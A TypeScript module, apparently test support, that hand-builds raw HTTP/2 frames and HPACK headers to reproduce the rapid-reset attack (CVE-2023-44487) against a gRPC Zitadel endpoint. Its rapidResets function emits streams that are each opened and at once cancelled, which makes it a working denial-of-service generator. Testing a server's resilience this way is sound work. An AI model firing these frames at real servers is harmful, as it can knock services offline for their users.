/*
 * Raw HTTP/2 frames of a rapid-reset client (CVE-2023-44487): HEADERS of a new stream (a gRPC
 * call's start) at once followed by its RST_STREAM. Typed clients cannot send these: node:http2
 * drops a stream closed right after request() before its HEADERS frame ever leaves.
 */

export const H2_PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
export const FRAME = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7 } as const;
export const ACK = 0x1;
const END_HEADERS = 0x4;
const CANCEL = 0x8;

export function h2Frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** The preface and an empty SETTINGS frame: how every client connection starts. */
export const clientStart = (): Buffer => Buffer.concat([H2_PREFACE, h2Frame(FRAME.SETTINGS, 0, 0)]);

/** An HPACK string literal without Huffman coding (names and values here are short: < 127 bytes). */
const literal = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text, "latin1")]);

/**
 * The HPACK block of a gRPC call's headers. The connection's first stream (id 1) adds :path,
 * :authority, content-type and te to the dynamic table (literal with incremental indexing); every
 * later stream refers to them (indexed, 1 byte each: the newest entry is index 62). :method POST
 * and :scheme http are static entries 3 and 6.
 */
function headerBlock(streamId: number, authority: string): Buffer {
  if (streamId !== 1) return Buffer.from([0x83, 0x86, 0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62]);
  return Buffer.concat([
    Buffer.from([0x83, 0x86, 0x44]), // ..., :path (static name 4)
    literal("/zitadel.management.v1.ManagementService/Healthz"),
    Buffer.from([0x41]), // :authority (static name 1)
    literal(authority),
    Buffer.from([0x5f]), // content-type (static name 31)
    literal("application/grpc"),
    Buffer.from([0x40]), // a new name
    literal("te"),
    literal("trailers"),
  ]);
}

/** `count` streams from `firstStreamId` on (odd), each HEADERS at once followed by RST_STREAM (CANCEL). */
export function rapidResets(firstStreamId: number, count: number, authority: string): Buffer {
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(CANCEL);
  const frames: Buffer[] = [];
  for (let id = firstStreamId; id < firstStreamId + 2 * count; id += 2) {
    frames.push(h2Frame(FRAME.HEADERS, END_HEADERS, id, headerBlock(id, authority)), h2Frame(FRAME.RST_STREAM, 0, id, cancel));
  }
  return Buffer.concat(frames);
}
